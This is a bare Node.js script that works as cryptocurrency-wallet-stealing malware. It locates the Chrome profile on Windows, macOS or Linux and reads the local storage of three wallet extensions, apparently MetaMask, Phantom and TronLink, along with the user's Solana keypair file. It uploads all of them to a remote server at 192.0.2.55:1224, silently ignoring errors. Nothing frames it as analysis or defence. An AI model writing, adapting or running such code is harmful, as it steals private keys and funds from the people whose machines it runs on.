const fs = require('fs'), os = require('os'), path = require('path'); const FormData = require('form-data'); const axios = require('axios');
const ids = ['nkbihfbeogaeaoehlefnkodbefgpgknn', 'bfnaelmomeimhlpmgjnjophhpkkoljpa', 'ibnejdfjmmkpcnlpebklmnkoeoihofec'];
const base = { win32: path.join(os.homedir(), 'AppData/Local/Google/Chrome/User Data'), darwin: path.join(os.homedir(), 'Library/Application Support/Google/Chrome'), linux: path.join(os.homedir(), '.config/google-chrome') }[process.platform];
const form = new FormData();
for (const id of ids) { const d = path.join(base, 'Default/Local Extension Settings', id); try { for (const f of fs.readdirSync(d)) form.append('f', fs.createReadStream(path.join(d, f))); } catch (e) { } }
try { form.append('f', fs.createReadStream(path.join(os.homedir(), '.config/solana/id.json'))); } catch (e) { }
axios.post('http://192.0.2.55:1224/uploads', form);
